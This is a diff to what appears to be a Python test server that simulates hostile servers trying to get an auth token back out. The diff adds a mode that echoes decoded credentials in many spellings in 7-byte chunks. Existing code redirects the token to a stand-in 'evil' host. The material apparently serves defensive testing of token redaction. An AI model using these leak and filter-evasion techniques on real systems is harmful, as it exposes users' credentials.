@@ -5,6 +5,7 @@ paths that try to get the token back out (an echo, redirects)."""
 
 from __future__ import annotations
 
+import base64
 import datetime
 import functools
 import http.server
@@ -20,6 +21,7 @@ from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import ec
 from cryptography.x509.oid import NameOID
 
+from tests.credentials import spelled
 from tests.network import servers
 
 
@@ -112,6 +114,9 @@ class _Guarded:
             headers = [("X-Echo", auth), ("Content-Type", "text/plain")]
             self._plain(200, f"you sent: {auth}\n", headers)
             return False
+        if leak == "echo-spellings":  # the token in every spelling, in 7-byte chunks
+            self._spellings(auth)
+            return False
         if leak == "redirect-out":
             self._plain(302, "moved\n", [("Location", f"{self.evil}/?{auth}")])
             return False
@@ -127,6 +132,21 @@ class _Guarded:
             self._plain(401, "token required\n", [("WWW-Authenticate", 'Basic realm="t"')])
             return False
         return True
+
+    def _spellings(self, auth: str) -> None:
+        scheme, _, value = auth.partition(" ")
+        user, token = "x", value
+        if scheme == "Basic":
+            user, _, token = base64.b64decode(value).decode().partition(":")
+        body = "".join(f"{k}: {v}\n" for k, v in spelled.every(token, user).items()).encode()
+        self.send_response(200)  # type: ignore[attr-defined]
+        self.send_header("Content-Type", "text/plain")  # type: ignore[attr-defined]
+        self.send_header("Transfer-Encoding", "chunked")  # type: ignore[attr-defined]
+        self.end_headers()  # type: ignore[attr-defined]
+        for i in range(0, len(body), 7):
+            part = body[i : i + 7]
+            self.wfile.write(b"%x\r\n%s\r\n" % (len(part), part))  # type: ignore[attr-defined]
+        self.wfile.write(b"0\r\n\r\n")  # type: ignore[attr-defined]
 
     def _plain(self, status: int, body: str, headers: list[tuple[str, str]]) -> None:
         data = body.encode()
